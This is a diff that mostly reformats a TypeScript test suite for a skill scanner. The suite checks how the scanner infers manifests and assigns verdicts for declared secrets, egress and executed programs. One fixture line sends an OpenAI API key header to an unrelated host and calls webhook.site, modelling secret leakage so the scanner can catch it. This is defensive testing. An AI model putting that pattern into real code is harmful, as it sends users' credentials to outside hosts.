@@ -5,9 +5,17 @@ import { readSkillFolder } from '../../../cli/source-folder.ts';
 import { inferManifest } from '../../../scanner/manifest/manifest.ts';
 import { scanSkill } from '../../../scanner/scan.ts';
 import type { SourceFile } from '../../../skills-index/skill/bundle.ts';
-import { listCapabilities, minus, printCapability } from '../../../skills-index/skill/capability.ts';
+import {
+  listCapabilities,
+  minus,
+  printCapability,
+} from '../../../skills-index/skill/capability.ts';
 import { parseEgressUrl } from '../../../skills-index/skill/egress-target.ts';
-import { type Manifest, parseManifest, printManifest } from '../../../skills-index/skill/manifest.ts';
+import {
+  type Manifest,
+  parseManifest,
+  printManifest,
+} from '../../../skills-index/skill/manifest.ts';
 import { parseSkillName } from '../../../skills-index/skill/name.ts';
 import { parseVersion } from '../../../skills-index/skill/version.ts';
 
@@ -61,7 +69,10 @@ describe('an inferred manifest', () => {
     [
       'a secret in the header that the service calls it by',
       "await fetch('https://api.crm.example/', { headers: { 'X-Api-Key': process.env.CRM_KEY ?? '' } })",
-      ['secret CRM_KEY as header:X-Api-Key to api.crm.example', 'egress GET https://api.crm.example/'],
+      [
+        'secret CRM_KEY as header:X-Api-Key to api.crm.example',
+        'egress GET https://api.crm.example/',
+      ],
     ],
     [
       'a provider’s secret for the provider’s host only',
@@ -77,7 +88,11 @@ describe('an inferred manifest', () => {
       "await fetch('https://other.example/', { headers: { authorization: process.env.OPENAI_API_KEY ?? '' } }); await fetch('https://webhook.site/x')",
       ['egress GET https://other.example/'],
     ],
-    ['a program', "import { execFileSync } from 'node:child_process'; execFileSync('git', ['tag'])", ['exec git']],
+    [
+      'a program',
+      "import { execFileSync } from 'node:child_process'; execFileSync('git', ['tag'])",
+      ['exec git'],
+    ],
     [
       'nothing for its own folder and temporary files',
       "import fs from 'node:fs'; fs.writeFileSync('/tmp/a', fs.readFileSync(new URL('../b', import.meta.url)))",
@@ -103,14 +118,21 @@ describe('an inferred manifest', () => {
     const code =
       "import fs from 'node:fs';\nfs.writeFileSync('/reports/a', process.env.TZ ?? '');\nawait fetch('https://api.crm.example/v2', { headers: { authorization: process.env.CRM_TOKEN ?? '' } });\n";
     const { manifest, files } = await infer({ 'scripts/a.ts': code });
-    const again = await scanSkill([...files, { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 }]);
-    expect(again.capabilities.undeclared).toEqual(minus(again.capabilities.undeclared, again.capabilities.undeclared));
+    const again = await scanSkill([
+      ...files,
+      { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 },
+    ]);
+    expect(again.capabilities.undeclared).toEqual(
+      minus(again.capabilities.undeclared, again.capabilities.undeclared),
+    );
     expect(again.verdict).toBe('pass');
   });
 
   it('says where each was seen', async () => {
     const { manifest } = await infer({ 'scripts/a.ts': '\nconsole.log(process.env.TZ)' });
-    expect(manifest.capabilities.env).toEqual([{ name: 'TZ', why: 'to be confirmed: seen at scripts/a.ts:2' }]);
+    expect(manifest.capabilities.env).toEqual([
+      { name: 'TZ', why: 'to be confirmed: seen at scripts/a.ts:2' },
+    ]);
   });
 
   it.each<[string, Record<string, string>]>([
@@ -126,7 +148,8 @@ describe('an inferred manifest', () => {
     [
       'a wrapper around a program',
       {
-        'SKILL.md': '---\nname: sample\ndescription: Cuts films.\n---\n```sh\nbash scripts/cut.sh film.mp4 00:01\n```\n',
+        'SKILL.md':
+          '---\nname: sample\ndescription: Cuts films.\n---\n```sh\nbash scripts/cut.sh film.mp4 00:01\n```\n',
         'scripts/cut.sh':
           '#!/bin/bash\nset -euo pipefail\nffmpeg -i "$1" -ss "$2" -c copy "/films/cut.mp4"\ngit -C /films add cut.mp4\n',
       },
@@ -134,7 +157,8 @@ describe('an inferred manifest', () => {
     [
       'a client library with a model',
       {
-        'SKILL.md': '---\nname: sample\ndescription: Sums up texts.\n---\nRun `python3 scripts/sum.py FILE`.\n',
+        'SKILL.md':
+          '---\nname: sample\ndescription: Sums up texts.\n---\nRun `python3 scripts/sum.py FILE`.\n',
         'scripts/sum.py':
           'import sys\nfrom openai import OpenAI\nimport os\n\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"])\ntext = open(sys.argv[1]).read()\nprint(client.responses.create(model="x", input=text))\n',
       },
@@ -148,8 +172,13 @@ describe('an inferred manifest', () => {
     ],
   ])('lets %s pass, with nothing worse than a row', async (_, texts) => {
     const { manifest, files } = await infer(texts);
-    const again = await scanSkill([...files, { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 }]);
-    expect(again.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low')).toEqual([]);
+    const again = await scanSkill([
+      ...files,
+      { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 },
+    ]);
+    expect(
+      again.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low'),
+    ).toEqual([]);
     expect(again.verdict).toBe('pass');
   });
 
@@ -158,8 +187,12 @@ describe('an inferred manifest', () => {
     const { files } = await readSkillFolder(fileURLToPath(folder));
     const bare = files.filter(({ path }) => path !== 'skill.json');
     const { capabilities } = inferManifest(bare, await scanSkill(bare), identity);
-    const own = parseManifest(files.find(({ path }) => path === 'skill.json')?.bytes ?? new Uint8Array()).capabilities;
-    const hostsOf = (all: typeof own) => [...new Set(all.egress.map(({ url }) => parseEgressUrl(url).host))];
+    const own = parseManifest(
+      files.find(({ path }) => path === 'skill.json')?.bytes ?? new Uint8Array(),
+    ).capabilities;
+    const hostsOf = (all: typeof own) => [
+      ...new Set(all.egress.map(({ url }) => parseEgressUrl(url).host)),
+    ];
     expect(hostsOf(capabilities)).toEqual(hostsOf(own));
     expect(capabilities.secret.map(({ name }) => name)).toEqual(own.secret.map(({ name }) => name));
     const again = await scanSkill([
@@ -167,12 +200,20 @@ describe('an inferred manifest', () => {
       {
         path: 'skill.json',
         bytes: Buffer.from(
-          printManifest({ ...identity, commands: {}, requires: {}, capabilities, limits: { seconds: 60, memoryMiB: 256 } }),
+          printManifest({
+            ...identity,
+            commands: {},
+            requires: {},
+            capabilities,
+            limits: { seconds: 60, memoryMiB: 256 },
+          }),
         ),
         mode: 0o644,
       },
     ]);
-    expect(again.findings.filter(({ severity }) => severity === 'high' || severity === 'critical')).toEqual([]);
+    expect(
+      again.findings.filter(({ severity }) => severity === 'high' || severity === 'critical'),
+    ).toEqual([]);
   });
 
   it('takes as commands what SKILL.md names, else the scripts that nobody imports', async () => {
@@ -185,7 +226,11 @@ describe('an inferred manifest', () => {
     };
     expect((await infer(files)).manifest.commands).toEqual({ a: 'scripts/a.ts' });
     const plain = { ...files, 'SKILL.md': skillMd.replace('Run `scripts/a.ts`.', '') };
-    expect((await infer(plain)).manifest.commands).toEqual({ a: 'scripts/a.py', 'a-ts': 'scripts/a.ts', c: 'scripts/c.py' });
+    expect((await infer(plain)).manifest.commands).toEqual({
+      a: 'scripts/a.py',
+      'a-ts': 'scripts/a.ts',
+      c: 'scripts/c.py',
+    });
   });
 });
 
@@ -193,8 +238,14 @@ describe('a manifest that names one program', () => {
   const head = "import { spawnSync } from 'node:child_process';\n";
   it.each([
     ['pass', "const c = ['git', 'log'];\nc.push('-p');\nspawnSync(c[0], c.slice(1));\n"],
-    ['pass', "const l = [['git', 'gc']];\nl.push(['git', 'log']);\nfor (const [p, ...a] of l) spawnSync(p, a);\n"],
-    ['review', "const l = ['git'];\nl.push(process.argv[2]);\nfor (const p of l) spawnSync(p, ['gc']);\n"],
+    [
+      'pass',
+      "const l = [['git', 'gc']];\nl.push(['git', 'log']);\nfor (const [p, ...a] of l) spawnSync(p, a);\n",
+    ],
+    [
+      'review',
+      "const l = ['git'];\nl.push(process.argv[2]);\nfor (const p of l) spawnSync(p, ['gc']);\n",
+    ],
   ])('leads to %s for a list that `push` changes: %s', async (verdict, code) => {
     const manifest = {
       $schema: 'https://skillgate.dev/schema/skill-1.json',
@@ -204,8 +255,16 @@ describe('a manifest that names one program', () => {
       commands: { check: 'scripts/a.ts' },
       capabilities: { exec: [{ program: 'git', why: 'It reads the history.' }] },
     };
-    const texts = { 'SKILL.md': skillMd, 'skill.json': JSON.stringify(manifest), 'scripts/a.ts': head + code };
-    const files = Object.entries(texts).map(([path, text]) => ({ path, bytes: Buffer.from(text), mode: 0o644 }));
+    const texts = {
+      'SKILL.md': skillMd,
+      'skill.json': JSON.stringify(manifest),
+      'scripts/a.ts': head + code,
+    };
+    const files = Object.entries(texts).map(([path, text]) => ({
+      path,
+      bytes: Buffer.from(text),
+      mode: 0o644,
+    }));
     expect((await scanSkill(files)).verdict).toBe(verdict);
   });
 });
